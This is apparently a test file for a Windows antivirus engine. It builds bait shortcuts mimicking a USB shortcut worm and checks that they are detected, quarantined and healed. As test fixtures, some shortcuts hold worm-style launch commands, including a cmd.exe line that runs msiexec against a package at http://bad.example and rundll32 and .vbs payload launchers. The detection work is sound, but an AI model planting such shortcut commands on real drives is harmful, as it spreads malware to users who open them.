// Bait shortcuts on a real stick, in process: the verdicts of shortcuts made by the shell link object,
// the per-shortcut store of the shield pass, the scan walk's rows, and healing the rows as records.
#include <gtest/gtest.h>

#include <windows.h>

#include <algorithm>
#include <string>
#include <vector>

#include "bench_win.h"
#include "engine/drive_scan_win.h"
#include "engine/shortcut_scan_win.h"
#include "heal/detection_heal_win.h"
#include "shell_links_win.h"
#include "win/wide_text_win.h"

namespace tollivar {
namespace {

using test::kHiddenSystem;
using test::WormStick;

const std::string kQuarantine = "C:\\Tollivar Tests\\shortcut-quarantine\\";

std::wstring Root() {
    return test::Widen(test::RemovableStick().Root());
}
std::string U8(const std::wstring& w) {
    return Utf8FromWide(w);
}

class ShortcutStickTest : public testing::Test {
  protected:
    void SetUp() override {
        test::RemovableStick().Clear();
        test::DeleteTree(kQuarantine.substr(0, kQuarantine.size() - 1));
        test::MakeFolders(kQuarantine);
    }
    void TearDown() override {
        test::RemovableStick().Pull();
        test::DeleteTree(kQuarantine.substr(0, kQuarantine.size() - 1));
    }
    static const ShortcutFinding* Named(const std::vector<ShortcutFinding>& all, const std::string& path) {
        for (const ShortcutFinding& f : all)
            if (f.shortcut == path) return &f;
        return nullptr;
    }
};

TEST_F(ShortcutStickTest, TheWormsShortcutsAndWhatTheyRunAndHide) {
    ASSERT_TRUE(WormStick::Lay(Root()));
    RootShortcutScanner scanner;
    const std::vector<ShortcutFinding> all = scanner.Findings("E:\\");
    const std::string blank = U8(std::wstring(L"E:\\") + WormStick::kBlank);
    const std::string report = U8(std::wstring(L"E:\\") + WormStick::kReport);
    const struct {
        std::string shortcut;
        std::vector<std::string> payloads;
        std::vector<std::string> opened;
        std::string mirrored;
        std::vector<std::string> web;
    } cases[] = {
        {"E:\\Photos.lnk", {"E:\\x.vbs"}, {blank}, "E:\\Photos", {}},
        {report + ".lnk", {"E:\\x.dat"}, {}, report, {}},
        {"E:\\Music.lnk", {"E:\\x.dll"}, {}, "E:\\Music", {}},
        {"E:\\Setup.lnk", {}, {}, "", {"http://bad.example/p.msi"}},
    };
    EXPECT_EQ(all.size(), std::size(cases));
    for (const auto& c : cases) {
        const ShortcutFinding* f = Named(all, c.shortcut);
        ASSERT_NE(f, nullptr) << c.shortcut;
        EXPECT_EQ(f->root, "E:\\");
        EXPECT_EQ(f->verdict.payloads, c.payloads) << c.shortcut;
        EXPECT_EQ(f->verdict.openedItems, c.opened) << c.shortcut;
        EXPECT_EQ(f->verdict.mirroredOriginal, c.mirrored) << c.shortcut;
        EXPECT_EQ(f->verdict.webAddresses, c.web) << c.shortcut;
        EXPECT_NE(f->verdict.reason.find(c.payloads.empty() ? "http://bad.example" : c.payloads[0]),
                  std::string::npos)
            << f->verdict.reason;
    }
}

TEST_F(ShortcutStickTest, OrdinaryShortcutsAreNotBait) {
    ASSERT_TRUE(test::LayCleanStick(Root()));
    RootShortcutScanner scanner;
    EXPECT_TRUE(scanner.Findings("E:\\").empty());
    std::vector<ScanRow> rows;
    WalkRemovableDrive("E:\\", {}, [&](const ScanRow& r) { rows.push_back(r); });
    EXPECT_TRUE(rows.empty());
}

TEST_F(ShortcutStickTest, ARepeatedPassReadsOnlyChangedShortcuts) {
    ASSERT_TRUE(WormStick::Lay(Root()));
    RootShortcutScanner scanner;
    EXPECT_EQ(scanner.Findings("E:\\").size(), 4u);
    EXPECT_EQ(scanner.FilesRead(), 4u);
    EXPECT_EQ(scanner.Findings("E:\\").size(), 4u);
    EXPECT_EQ(scanner.FilesRead(), 4u) << "nothing unchanged is read again";
    // Rewritten as an ordinary shortcut (another size): read again and no longer bait.
    ASSERT_TRUE(test::MakeShellLink(Root() + L"Music.lnk", {L"C:\\windows\\notepad.exe"}));
    EXPECT_EQ(scanner.Findings("E:\\").size(), 3u);
    EXPECT_EQ(scanner.FilesRead(), 5u);
    // The stored verdict stands while the shortcut is unchanged; healing judges afresh.
    ASSERT_TRUE(SetFileAttributesW((Root() + L"Photos").c_str(), FILE_ATTRIBUTE_DIRECTORY));
    EXPECT_EQ(scanner.Findings("E:\\").size(), 3u);
    EXPECT_EQ(scanner.FilesRead(), 5u);
    // A shortcut removed is forgotten; one put back is read again.
    ASSERT_TRUE(DeleteFileW((Root() + L"Setup.lnk").c_str()));
    EXPECT_EQ(scanner.Findings("E:\\").size(), 2u);
    ASSERT_TRUE(test::MakeShellLink(Root() + L"Setup.lnk", {L"C:\\windows\\system32\\cmd.exe",
                                                            L"/c msiexec /i http://bad.example/p.msi"}));
    EXPECT_EQ(scanner.Findings("E:\\").size(), 3u);
    EXPECT_EQ(scanner.FilesRead(), 6u);
}

TEST_F(ShortcutStickTest, TheScanWalkListsEveryShortcutAndPayload) {
    ASSERT_TRUE(WormStick::Lay(Root()));
    ASSERT_TRUE(CreateDirectoryW((Root() + L"Sub").c_str(), nullptr));
    ASSERT_TRUE(test::MakeShellLink(Root() + L"Sub\\Deep.lnk",
                                    {L"C:\\windows\\system32\\cmd.exe", L"/c start ..\\x.vbs"}));
    std::vector<ScanRow> rows;
    WalkRemovableDrive("E:\\", {}, [&](const ScanRow& r) { rows.push_back(r); });
    std::vector<std::string> shortcuts;
    for (const ScanRow& r : rows) {
        if (r.identification != "shortcut worm.") continue;
        EXPECT_EQ(r.kind, "F");
        EXPECT_EQ(r.autorunRoot, "E:\\");
        if (r.baitShortcut) shortcuts.push_back(r.infection);
    }
    std::sort(shortcuts.begin(), shortcuts.end());
    // The walk names the shortcut by its real (UTF-8) name, letters outside the code page included.
    const std::string report = U8(std::wstring(L"E:\\") + WormStick::kReport + L".lnk");
    std::vector<std::string> expected{"E:\\Music.lnk", "E:\\Photos.lnk", "E:\\Setup.lnk", "E:\\Sub\\Deep.lnk",
                                      report};
    std::sort(expected.begin(), expected.end());
    EXPECT_EQ(shortcuts, expected);
}

TEST_F(ShortcutStickTest, HealingTakesTheBaitAndGivesTheItemsBack) {
    ASSERT_TRUE(WormStick::Lay(Root()));
    std::vector<ScanRow> rows;
    WalkRemovableDrive("E:\\", {}, [&](const ScanRow& r) { rows.push_back(r); });
    std::vector<HealRecord> records;
    for (const ScanRow& r : rows)
        records.push_back(
            {r.infection, true, r.baitShortcut ? RowKind::Shortcut : RowKind::File, r.autorunRoot, "", false, ""});
    ThreatRemoval removal;
    removal.quarantineFolder = kQuarantine;
    const HealResult result = HealRecords(records, removal);
    EXPECT_EQ(result.tally.notHealed, 0);
    EXPECT_EQ(result.tally.itemsUnhidden, 4);
    EXPECT_EQ(result.tally.filesRemoved, 7) << "four shortcuts and three payloads";
    for (const std::wstring& item : {std::wstring(L"Photos"), std::wstring(WormStick::kBlank),
                                     std::wstring(L"Music"), std::wstring(WormStick::kReport)}) {
        const DWORD a = GetFileAttributesW((Root() + item).c_str());
        ASSERT_NE(a, INVALID_FILE_ATTRIBUTES);
        EXPECT_EQ(a & kHiddenSystem, 0u);
    }
    EXPECT_EQ(test::ReadWide(Root() + WormStick::kBlank + L"\\notes.txt"), "my notes");
    EXPECT_EQ(test::ReadWide(Root() + WormStick::kReport), "report text");
    EXPECT_EQ(GetFileAttributesW((Root() + WormStick::kReport + L".lnk").c_str()), INVALID_FILE_ATTRIBUTES);
    // Seven files quarantined, each with its record beside it (names beyond the code page too).
    const std::vector<std::string> quarantined = test::FileNamesIn(kQuarantine);
    EXPECT_EQ(quarantined.size(), 14u);
    EXPECT_EQ(std::count_if(quarantined.begin(), quarantined.end(),
                            [](const std::string& n) { return n.size() > 5 && n.compare(n.size() - 5, 5, ".qrec") == 0; }),
              7);
    RootShortcutScanner scanner;
    EXPECT_TRUE(scanner.Findings("E:\\").empty());
}

TEST_F(ShortcutStickTest, ARepairThatCannotFinishIsNotHealedAndHidesStayUntouched) {
    ASSERT_TRUE(WormStick::Lay(Root()));
    const struct {
        const char* name;
        bool changeToOrdinary; // the shortcut no longer bait at heal time
        bool lockPayload;      // the payload held open without sharing
    } cases[] = {{"no longer bait", true, false}, {"payload in use", false, true}};
    for (const auto& c : cases) {
        SCOPED_TRACE(c.name);
        ASSERT_TRUE(test::MakeShellLink(
            Root() + L"Music.lnk",
            c.changeToOrdinary ? test::LinkSpec{L"C:\\windows\\notepad.exe"}
                               : test::LinkSpec{L"C:\\windows\\system32\\rundll32.exe", L"x.dll,Entry"}));
        HANDLE lock = c.lockPayload ? CreateFileW((Root() + L"x.dll").c_str(), GENERIC_READ, 0, nullptr,
                                                  OPEN_EXISTING, 0, nullptr)
                                    : INVALID_HANDLE_VALUE;
        ThreatRemoval removal;
        removal.quarantineFolder = kQuarantine;
        const HealResult result = HealRecords({{"E:\\Music.lnk", true, RowKind::Shortcut, "E:\\", "", false, ""}}, removal);
        if (lock != INVALID_HANDLE_VALUE) CloseHandle(lock);
        EXPECT_EQ(result.rows.at(0), RowOutcome::NotHealed);
        EXPECT_EQ(result.tally.notHealed, 1);
        EXPECT_EQ(result.tally.itemsUnhidden, 0);
        EXPECT_EQ(GetFileAttributesW((Root() + L"Music").c_str()) & kHiddenSystem, kHiddenSystem);
    }
}

} // namespace
} // namespace tollivar
